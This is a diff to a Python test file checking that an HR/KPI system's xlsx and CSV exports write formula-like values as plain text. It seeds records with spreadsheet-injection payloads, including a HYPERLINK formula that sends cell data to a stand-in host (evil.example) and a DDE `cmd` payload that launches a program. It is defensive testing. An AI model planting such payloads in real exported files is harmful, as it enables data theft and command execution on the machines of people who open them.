@@ -12,7 +12,7 @@ from sqlalchemy import select
 
 from core.db import session_scope
 from core.tables import Employee, Indicator, KpiAssignment
-from tests.api.helpers import org_snapshot
+from tests.api.helpers import org_snapshot, person
 from workflows.process.cells import FORMULA_START, csv_cell
 
 PAYLOADS = ['=HYPERLINK("http://evil.example/leak?d="&B2,"点击")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]
@@ -20,22 +20,22 @@ PAYLOADS = ['=HYPERLINK("http://evil.example/leak?d="&B2,"点击")', "+1+cmd|' /
 
 @pytest.fixture(scope="module")
 def poisoned(demo_url: str) -> int:
-    emp = org_snapshot(demo_url)["users"]["employee"][1]
+    emp = person(org_snapshot(demo_url), "employee")
     with session_scope(demo_url) as s:
         ids = s.execute(select(KpiAssignment.indicator_id).where(KpiAssignment.employee_id == emp)).scalars()
         for payload, ind_id in zip(PAYLOADS, sorted(set(ids)), strict=False):
             ind = s.get(Indicator, ind_id)
             assert ind is not None
             ind.name_zh = ind.name_en = payload
-        person = s.get(Employee, emp)
-        assert person is not None
-        person.name_zh = person.name_en = "=1+1\tevil"
-    return int(emp)
+        employee = s.get(Employee, emp)
+        assert employee is not None
+        employee.name_zh = employee.name_en = "=1+1\tevil"
+    return emp
 
 
 @pytest.mark.parametrize("kind", ["scorecard", "report"])
 @pytest.mark.parametrize("lang", ["zh", "en"])
-def test_no_exported_cell_is_a_formula(client, tokens, poisoned: int, kind: str, lang: str) -> None:  # type: ignore[no-untyped-def]
+def test_no_exported_cell_is_a_formula(client, tokens, poisoned: int, kind: str, lang: str) -> None:
     r = client.get(
         f"/api/v1/exports/{kind}",
         params={"employee_id": poisoned, "format": "xlsx", "lang": lang},
@@ -64,7 +64,7 @@ def test_csv_cells_follow_the_same_rule() -> None:
     ]
 
 
-def test_the_org_export_writes_a_formula_like_name_as_text(client, tokens, poisoned: int) -> None:  # type: ignore[no-untyped-def]
+def test_the_org_export_writes_a_formula_like_name_as_text(client, tokens, poisoned: int) -> None:
     """The org export (streamed, write-only workbook) follows the same rule: the poisoned name is text."""
     r = client.get("/api/v1/imports/org/export.xlsx", params={"lang": "zh"}, headers=tokens["admin"])
     assert r.status_code == 200, r.text
